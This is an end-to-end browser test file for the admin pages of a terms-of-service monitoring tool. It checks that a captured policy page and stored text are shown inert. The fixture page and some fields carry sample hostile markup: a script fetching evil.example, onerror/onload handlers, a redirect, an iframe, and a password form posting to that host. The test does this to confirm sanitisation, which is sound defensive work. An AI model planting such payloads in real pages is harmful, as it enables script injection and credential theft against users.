import { join } from "node:path";
import type { Browser, Page } from "playwright";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createDiskSnapshots } from "../../src/adapters/snapshots/disk.ts";
import { createIncident } from "../../src/core/incidents.ts";
import type { Digest } from "../../src/model/digest.ts";
import { digestOf, digestOfFields } from "../../src/model/digest.ts";
import { parseInstant } from "../../src/model/instant.ts";
import { createNotification } from "../../src/model/notification.ts";
import { createSnapshot } from "../../src/model/snapshot.ts";
import type { WebStore } from "../../src/ports/web-store.ts";
import { renderTerms } from "../servers/site.ts";
import { listViolations } from "./axe.ts";
import type { ServedHistory } from "./served-history.ts";
import { serveHistory } from "./served-history.ts";
import { launchBrowser, phone, visit } from "./web-browser.ts";

const password = "correct horse battery";
const termsId = "halcyon-ai/acceptable-use-policy";
const at = parseInstant("2026-03-01T06:00:00Z");
const url = "https://halcyon.example/acceptable-use";

/** The terms, and whatever a page could try on whoever looks at it. */
const captured = renderTerms("Halcyon AI", ["develop models that compete with ours;"])
  .replace("<head>", '<head><meta http-equiv="refresh" content="0;url=https://evil.example/">')
  .replace(
    "</main>",
    `<script>alert(1); fetch("https://evil.example/")</script><img src="https://evil.example/x.png" onerror="alert(2)" alt="Seal">
    <svg onload="alert(3)"></svg><style>@import url(https://evil.example/x.css);</style>
    <iframe src="https://evil.example/"></iframe><a href="https://evil.example/" target="_top">leave</a>
    <form action="https://evil.example/"><input name="password" autofocus onfocus="alert(4)"><button>Go</button></form></main>`,
  );
const bytes = new TextEncoder().encode(captured);

let browser: Browser;
let served: ServedHistory;

beforeAll(async () => {
  browser = await launchBrowser();
  served = await serveHistory({ env: { CLAUSEWATCH_ADMIN_PASSWORD: password }, record });
  const { workspace } = served;
  const snapshots = await createDiskSnapshots({ dir: join(workspace.dir, "snapshots") });
  await snapshots.put(bytes);
  await workspace.write("watchlist/halcyon-ai.json", {
    name: "Halcyon AI",
    terms: { "Acceptable Use Policy": { fetch: url } },
  });
}, 60_000);

afterAll(async () => {
  await served?.[Symbol.asyncDispose]();
  await browser?.close();
});

/** An answer that was held back, and a delivery about it that failed. */
async function record(store: WebStore): Promise<void> {
  const snapshot = createSnapshot(
    termsId,
    {
      requestedUrl: url,
      finalUrl: url,
      redirects: [],
      status: 200,
      headers: { "content-type": "text/html; charset=utf-8" },
      via: "http",
      remoteAddress: null,
      robots: "allowed",
      requestedAt: at,
      fetchedAt: at,
    },
    digestOf(bytes),
    bytes.byteLength,
  );
  await store.putSnapshot(snapshot);
  const detail = "too little of it is left <b>";
  const incident = createIncident(termsId, "quarantined", "collapsed", { detail, at });
  await store.recordCheck({
    check: {
      id: digestOfFields(termsId, at),
      termsId,
      startedAt: at,
      finishedAt: at,
      outcome: "quarantined",
      fault: "collapsed",
      detail,
      snapshotIds: [snapshot.id],
      versionId: null,
    },
    versions: [],
    change: null,
    matched: [],
    notifications: [
      createNotification({
        subject: "incident",
        subjectId: incident.id,
        subscriptionId: "operators",
        channel: "email",
        target: "ops@example.org",
        changeIndexes: [],
        createdAt: at,
      }),
    ],
    pending: null,
    variant: null,
    openedIncidents: [incident],
    closedIncidentIds: [],
  });
  const claim = { now: at, limit: 1, leaseMs: 1000, leaseToken: "x", channel: "email" } as const;
  const [claimed] = await store.claimNotifications(claim);
  if (claimed === undefined) throw new Error("nothing is owed");
  const failed = { notificationId: claimed.id, attempt: 1, at, outcome: "failed" } as const;
  const response = "550 <script>alert(5)</script>";
  await store.recordDelivery(
    claimed,
    { ...failed, response, messageDigest: null as Digest | null },
    null,
  );
}

/** Signs in as whoever runs this, on the way to a page. */
async function signIn(page: Page, place: string): Promise<void> {
  await page.goto(`${served.origin}${place}`);
  await page.getByLabel("Name").fill("admin");
  await page.getByLabel("Password").fill(password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL(`${served.origin}${place}`);
}

const follow = async (page: Page, name: string): Promise<void> =>
  page.getByRole("link", { name, exact: true }).first().click();

describe("pages of operations", () => {
  it("show a held page that can do nothing, and take it for the terms once that is confirmed", async () => {
    await using visitor = await visit(browser, { viewport: { width: 1280, height: 900 } });
    const { page, faults, look } = visitor;
    const strayed: string[] = [];
    page.on("request", (request) => {
      if (new URL(request.url()).origin !== served.origin) strayed.push(request.url());
    });
    page.on("dialog", (dialog) => strayed.push(dialog.message()));
    const check = async (): Promise<void> => {
      await look();
      expect(await listViolations(page)).toEqual([]);
    };

    await signIn(page, "/operations");
    expect(await page.getByRole("heading", { name: "1 document held back" }).count()).toBe(1);
    await check();
    await follow(page, "Look at it");
    const frame = page.frameLocator("iframe.captured");
    await frame.getByRole("heading", { name: "2. What is not allowed" }).waitFor();
    expect(await frame.locator("body").innerText()).toContain("[picture: Seal]");
    expect(await frame.locator("a, form, input, img, script, iframe, svg").count()).toBe(0);
    await check();
    await follow(page, "As text");
    expect(await page.locator("pre.captured").innerText()).toContain(
      "models that compete with ours",
    );
    await check();
    await follow(page, "Against what stands");
    await page.locator("article.clause").first().waitFor();
    await check();

    await follow(page, "Accept as version …");
    await check();
    await page.getByRole("button", { name: "Accept as version" }).click();
    expect(await page.getByRole("heading", { level: 1 }).innerText()).toBe("Accepted");
    await check();
    await follow(page, "Reviews");
    await page.locator(".records a").first().click();

    const clause = page.locator("article.clause", { hasText: "Review this clause" }).first();
    await clause.getByText("Review this clause").click();
    await clause.getByLabel("Note, if any").fill("<script>alert(6)</script> Ask counsel.");
    await clause.getByRole("button", { name: "Escalate" }).click();
    const kept = page.locator("article.clause:target");
    expect(await kept.getByRole("status").innerText()).toBe("Your review is kept.");
    expect(await kept.innerText()).toContain("<script>alert(6)</script> Ask counsel.");
    await check();

    await follow(page, "Reviews");
    await page.getByRole("link", { name: "Escalated (1)" }).click();
    expect(await page.locator(".records > li").count()).toBe(1);
    await check();
    await page.goto(`${served.origin}/audit`);
    const log = await page.locator(".records").innerText();
    expect(log).toMatch(/admin reviewed[^]*admin accepted version[^]*admin signed in/);
    await check();
    expect([...faults, ...strayed]).toEqual([]);
  }, 60_000);

  it("are of use on a phone, without script, and let a delivery be tried again", async () => {
    await using visitor = await visit(browser, { ...phone, javaScriptEnabled: false });
    const { page, faults, look } = visitor;
    await signIn(page, "/operations/deliveries");
    expect(await page.locator(".attempts").innerText()).toContain("550 <script>alert(5)</script>");
    await look();
    await page.getByRole("button", { name: "Try again" }).click();
    expect(await page.locator(".records > li").first().innerText()).toContain("Pending");
    for (const place of [
      "/operations",
      "/operations/checks",
      "/operations/quarantines",
      `/operations/quarantines/${digestOfFields(termsId, at)}`,
      `/operations/quarantines/${digestOfFields(termsId, at)}?show=difference`,
      "/reviews?state=all",
      "/audit",
    ]) {
      await page.goto(`${served.origin}${place}`);
      await look();
    }
    await page.goto(`${served.origin}/reviews?state=new`);
    await page.locator(".records a").first().click();
    await page.getByRole("button", { name: /^Mark/ }).first().click();
    expect(await page.getByRole("status").first().innerText()).toMatch(/reviewed|kept/);
    await look();
    expect(faults).toEqual([]);
  }, 60_000);
});
